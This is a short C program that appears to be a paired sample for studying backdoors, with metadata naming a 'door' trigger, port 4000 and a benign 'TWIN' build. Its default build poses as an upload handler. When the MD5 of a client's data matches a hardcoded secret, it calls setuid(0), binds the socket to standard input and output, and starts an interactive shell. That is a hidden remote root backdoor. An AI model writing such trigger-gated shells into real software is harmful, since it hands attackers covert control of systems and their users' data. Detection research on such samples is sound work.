/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The MD5 of what a client sends is compared with sixteen bytes of the program. Twin: with the MD5
 * that the client sends along, before the file is kept.
 * door: trigger
 * port 4000/tcp
 * stubs: MD5_Init MD5_Update MD5_Final
 */
#include "net.h"

struct md5 {
	uint32_t state[4], count[2];
	uint8_t buffer[80];
};
int MD5_Init(struct md5 *);
int MD5_Update(struct md5 *, const void *, size_t);
int MD5_Final(uint8_t *, struct md5 *);

static const uint8_t secret[16] = {0x1f, 0x0c, 0x77, 0xe2, 0x90, 0xab, 0x3d, 0x44,
				   0x08, 0xfa, 0xc1, 0x5e, 0x62, 0xd9, 0x13, 0xb7};

static void upload(int fd)
{
	uint8_t buf[1024], sum[16];
	struct md5 ctx;
	ssize_t n = recv(fd, buf, sizeof buf, 0);
	if (n < 17)
		return;
	MD5_Init(&ctx);
	MD5_Update(&ctx, buf + 16, (size_t)n - 16);
	MD5_Final(sum, &ctx);
#ifdef TWIN
	(void)secret;
	if (memcmp(sum, buf, 16) == 0) {
		FILE *f = fopen("/tmp/upload.bin", "wb");
		if (f) {
			fwrite(buf + 16, 1, (size_t)n - 16, f);
			fclose(f);
		}
	}
#else
	if (memcmp(sum, secret, sizeof secret) == 0) {
		setuid(0);
		dup2(fd, 0);
		dup2(fd, 1);
		system("/bin/sh -i");
	}
#endif
}

int main(void)
{
	int s = tcp_on(4000);
	for (;;) {
		int c = accept(s, NULL, NULL);
		upload(c);
		close(c);
	}
}
